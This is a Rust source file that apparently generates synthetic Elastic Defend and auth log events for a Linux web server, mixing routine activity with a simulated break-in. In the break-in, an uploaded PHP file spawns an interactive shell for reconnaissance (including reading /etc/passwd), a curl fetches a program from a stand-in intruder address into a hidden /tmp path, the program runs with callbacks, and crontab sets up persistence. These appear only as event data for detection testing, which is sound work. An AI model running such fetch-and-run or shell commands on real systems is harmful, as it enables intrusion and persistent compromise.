//! web01: a web server on Linux, as Elastic Defend and the system integration tell it.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Map, Value, json};

use super::windows::{at, ms};
use eqlipse_fleet::random::Random;

const ADDRESS: &str = "203.0.113.80";
const INTRUDER: &str = "198.51.100.140";
const HOST_ID: &str = "6f1d2c0b8e9a4f53a7c4d1e85b0f2a96";

/// An account of the host.
#[derive(Clone, Copy)]
struct Account {
    id: &'static str,
    name: &'static str,
}

const ROOT: Account = Account { id: "0", name: "root" };
const WEB: Account = Account { id: "33", name: "www-data" };
const DEPLOY: Account = Account { id: "1001", name: "deploy" };

#[derive(Clone)]
struct Process {
    entity_id: String,
    pid: u64,
    executable: String,
    args: Vec<String>,
    user: Account,
}

impl Process {
    fn name(&self) -> &str {
        self.executable.rsplit('/').next().unwrap_or(&self.executable)
    }

    fn to_json(&self) -> Map<String, Value> {
        let mut process = Map::new();
        process.insert("entity_id".into(), self.entity_id.clone().into());
        process.insert("pid".into(), self.pid.into());
        process.insert("name".into(), self.name().into());
        process.insert("executable".into(), self.executable.clone().into());
        process.insert("args".into(), self.args.clone().into());
        process.insert("args_count".into(), self.args.len().into());
        process.insert("command_line".into(), self.args.join(" ").into());
        process
    }
}

/// The host's events, in any order.
struct Host {
    random: Random,
    events: Vec<(Timestamp, Value)>,
}

impl Host {
    fn push(&mut self, time: Timestamp, dataset: &str, action: &str, category: &str, kind: &str, body: Value) {
        let mut event = json!({
            "@timestamp": stamp(time),
            "ecs": {"version": "8.11.0"},
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            "host": {
                "name": "web01", "hostname": "web01", "id": HOST_ID, "ip": [ADDRESS, "127.0.0.1"],
                "os": {"type": "linux", "family": "debian", "name": "Linux", "platform": "debian", "version": "12.7"},
            },
            "event": {
                "kind": "event", "category": [category], "type": [kind], "action": action, "dataset": dataset,
                "id": self.random.hex(24), "ingested": stamp(time + ms(1_700)),
            },
        });
        let agent = if dataset.starts_with("endpoint") { "endpoint" } else { "filebeat" };
        event["agent"] = json!({"type": agent, "version": "9.1.3"});
        event["event"]["module"] = dataset.split('.').next().unwrap_or(dataset).into();
        if let Value::Object(fields) = body {
            fields.into_iter().for_each(|(name, value)| merge(&mut event, name, value));
        }
        self.events.push((time, event));
    }

    /// A process that was there before the log begins.
    fn running(&mut self, pid: u64, user: Account, command: &[&str]) -> Process {
        Process {
            entity_id: self.random.hex(20),
            pid,
            executable: command[0].to_owned(),
            args: command.iter().map(|&arg| arg.to_owned()).collect(),
            user,
        }
    }

    fn exec(&mut self, time: Timestamp, parent: &Process, user: Account, command: &[&str]) -> Process {
        let pid = self.random.range(20_000, 900_000);
        let mut process = self.running(pid, user, command);
        process.args[0] = process.name().to_owned();
        let mut fields = process.to_json();
        fields.insert("parent".into(), parent.to_json().into());
        let body = json!({"process": fields, "user": account(user)});
        self.push(time, "endpoint.events.process", "exec", "process", "start", body);
        process
    }

    fn end(&mut self, time: Timestamp, process: &Process) {
        let body = json!({"process": process.to_json(), "user": account(process.user)});
        self.push(time, "endpoint.events.process", "end", "process", "end", body);
    }

    fn file(&mut self, time: Timestamp, process: &Process, kind: &str, path: &str) {
        let (directory, name) = path.rsplit_once('/').unwrap_or(("", path));
        let mut file = json!({"path": path, "name": name, "directory": directory});
        if let Some((_, extension)) = name.rsplit_once('.') {
            file["extension"] = extension.into();
        }
        let body = json!({"file": file, "process": process.to_json(), "user": account(process.user)});
        self.push(time, "endpoint.events.file", kind, "file", kind, body);
    }

    fn connect(&mut self, time: Timestamp, process: &Process, address: &str, port: u16) {
        let source_port = self.random.range(32_768, 60_999);
        let body = json!({
            "process": process.to_json(),
            "user": account(process.user),
            "source": {"ip": ADDRESS, "port": source_port},
            "destination": {"ip": address, "port": port},
            "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
        });
        self.push(time, "endpoint.events.network", "connection_attempted", "network", "start", body);
    }

    /// A login over SSH, as the auth log tells it.
    fn ssh(&mut self, time: Timestamp, name: &str, address: &str, accepted: bool) {
        let (outcome, word) = if accepted { ("success", "Accepted") } else { ("failure", "Failed") };
        let port = self.random.range(32_768, 60_999);
        let body = json!({
            "event": {"outcome": outcome},
            "user": {"name": name},
            "source": {"ip": address, "port": port},
            "process": {"name": "sshd"},
            "message": format!("{word} password for {name} from {address} port {port} ssh2"),
        });
        self.push(time, "system.auth", "ssh_login", "authentication", "info", body);
    }
}

/// Puts a field in, into what is already there.
fn merge(into: &mut Value, name: String, value: Value) {
    match (&mut into[&name], value) {
        (Value::Object(present), Value::Object(more)) => present.extend(more),
        (place, value) => *place = value,
    }
}

fn account(user: Account) -> Value {
    json!({"id": user.id, "name": user.name})
}

fn stamp(time: Timestamp) -> String {
    time.strftime("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

/// One document a line, by time. Elastic Defend's own events are numbered in that order.
pub fn ndjson() -> Vec<u8> {
    let mut host = Host { random: Random::new(80), events: Vec::new() };
    let systemd = host.running(1, ROOT, &["/usr/lib/systemd/systemd"]);
    let fpm = host.running(811, WEB, &["/usr/sbin/php-fpm8.2", "--nodaemonize"]);
    ordinary_day(&mut host, &systemd, &fpm);
    administration(&mut host, &systemd);
    let shell = break_in(&mut host, &fpm);
    settle(&mut host, &systemd, &shell);
    host.events.sort_by_key(|(time, _)| *time);
    let mut out = Vec::new();
    for ((_, mut event), sequence) in host.events.into_iter().zip(70_411u64..) {
        if event["event"]["module"] == "endpoint" {
            event["event"]["sequence"] = sequence.into();
        }
        out.extend_from_slice(event.to_string().as_bytes());
        out.push(b'\n');
    }
    out
}

/// Cron jobs, monitoring, image conversion, and the guesses at passwords that every server gets.
fn ordinary_day(host: &mut Host, systemd: &Process, fpm: &Process) {
    let cron = host.running(644, ROOT, &["/usr/sbin/cron", "-f"]);
    let sshd = host.running(702, ROOT, &["/usr/sbin/sshd", "-D"]);
    let mut random = Random::new(81);
    let mut time = at("06:56:00.000");
    while time < at("09:58:00.000") {
        match random.range(0, 5) {
            0 => cron_job(host, &cron, time),
            1 => thumbnail(host, fpm, &mut random, time),
            2 => host.ssh(time, random.pick(&["admin", "oracle", "test", "ubuntu"]), "198.51.100.201", false),
            3 => {
                let check = host.exec(time, systemd, ROOT, &["/usr/bin/df", "-P", "/"]);
                host.end(time + ms(12), &check);
            }
            _ => host.connect(time, fpm, "192.0.2.33", 5432),
        }
        time += ms(random.range(70_000, 190_000) as i64);
    }
    host.connect(at("07:00:11.000"), &sshd, "192.0.2.40", 514);
}

fn cron_job(host: &mut Host, cron: &Process, time: Timestamp) {
    let shell = host.exec(time, cron, ROOT, &["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"]);
    let job = host.exec(time + ms(30), &shell, ROOT, &["/usr/bin/run-parts", "--report", "/etc/cron.hourly"]);
    host.end(time + ms(80), &job);
    host.end(time + ms(85), &shell);
}

/// The shop converts pictures through a shell, as many web applications do.
fn thumbnail(host: &mut Host, fpm: &Process, random: &mut Random, time: Timestamp) {
    let number = random.range(1000, 9999);
    let (from, to) = (format!("/srv/shop/uploads/{number}.jpg"), format!("/srv/shop/uploads/{number}.webp"));
    host.file(time, fpm, "creation", &from);
    let shell = host.exec(time + ms(40), fpm, WEB, &["/bin/sh", "-c", &format!("convert {from} -resize 400 {to}")]);
    let convert = host.exec(time + ms(44), &shell, WEB, &["/usr/bin/convert", &from, "-resize", "400", &to]);
    host.file(time + ms(400), &convert, "creation", &to);
    host.end(time + ms(405), &convert);
}

/// The administrator updates packages and installs a tool, with care.
fn administration(host: &mut Host, systemd: &Process) {
    host.ssh(at("07:14:50.300"), "deploy", "192.0.2.60", false);
    host.ssh(at("07:14:58.120"), "deploy", "192.0.2.60", true);
    let shell = host.exec(at("07:14:58.900"), systemd, DEPLOY, &["/bin/bash", "-l"]);
    host.exec(at("07:15:20.410"), &shell, DEPLOY, &["/usr/bin/id"]);
    let apt = host.exec(at("07:16:02.770"), &shell, ROOT, &["/usr/bin/apt-get", "upgrade", "-y"]);
    let dpkg = host.exec(at("07:16:31.005"), &apt, ROOT, &["/usr/bin/dpkg", "--configure", "--pending"]);
    host.file(at("07:16:32.440"), &dpkg, "creation", "/etc/cron.d/php.dpkg-new");
    host.file(at("07:16:32.512"), &dpkg, "change", "/etc/cron.d/php");
    host.end(at("07:16:40.020"), &apt);
    let url = "https://downloads.example.org/logtool/2.4/logtool";
    for (clock, command) in [
        ("07:21:03.100", &["/usr/bin/curl", "-fsSL", "-o", "/tmp/logtool", url][..]),
        ("07:21:08.450", &["/usr/bin/sha256sum", "--check", "/tmp/logtool.sha256"]),
        ("07:21:14.980", &["/usr/bin/chmod", "+x", "/tmp/logtool"]),
        ("07:21:17.605", &["/tmp/logtool", "--self-test"]),
    ] {
        host.exec(at(clock), &shell, DEPLOY, command);
    }
    let backup = host.exec(at("09:30:00.140"), systemd, ROOT, &["/usr/local/bin/restic", "backup", "/srv/shop"]);
    host.connect(at("09:30:01.220"), &backup, "192.0.2.44", 443);
}

/// 09:41: a script is uploaded as a picture, and used to start a shell.
fn break_in(host: &mut Host, fpm: &Process) -> Process {
    host.file(at("09:41:10.315"), fpm, "creation", "/srv/shop/uploads/avatar_881.php");
    let shell = host.exec(at("09:41:36.020"), fpm, WEB, &["/bin/sh", "-c", "/bin/sh -i 2>&1"]);
    for (clock, command) in [
        ("09:41:39.410", &["/usr/bin/id"][..]),
        ("09:41:44.702", &["/usr/bin/uname", "-a"]),
        ("09:41:52.118", &["/usr/bin/cat", "/etc/passwd"]),
        ("09:42:03.930", &["/usr/bin/ss", "-tlnp"]),
        ("09:42:15.277", &["/usr/bin/ps", "aux"]),
    ] {
        let command = host.exec(at(clock), &shell, WEB, command);
        host.end(at(clock) + SignedDuration::from_millis(9), &command);
    }
    shell
}

/// 09:43: a program is fetched and run, and a cron job brings it back.
fn settle(host: &mut Host, systemd: &Process, shell: &Process) {
    let program = "/tmp/.cache-d/kworkerd";
    let url = format!("http://{INTRUDER}/k");
    let curl = host.exec(at("09:43:20.640"), shell, WEB, &["/usr/bin/curl", "-s", &url, "-o", program]);
    host.connect(at("09:43:20.702"), &curl, INTRUDER, 80);
    host.file(at("09:43:21.310"), &curl, "creation", program);
    host.exec(at("09:43:29.015"), shell, WEB, &["/usr/bin/chmod", "755", program]);
    let daemon = host.exec(at("09:43:34.466"), shell, WEB, &[program, "-d"]);
    host.connect(at("09:43:35.190"), &daemon, INTRUDER, 8443);
    host.exec(at("09:44:51.730"), shell, WEB, &["/usr/bin/crontab", "-"]);
    host.connect(at("09:48:35.201"), &daemon, INTRUDER, 8443);
    let rotate = host.exec(at("09:59:00.010"), systemd, ROOT, &["/usr/sbin/logrotate", "/etc/logrotate.conf"]);
    host.end(at("09:59:00.300"), &rotate);
}
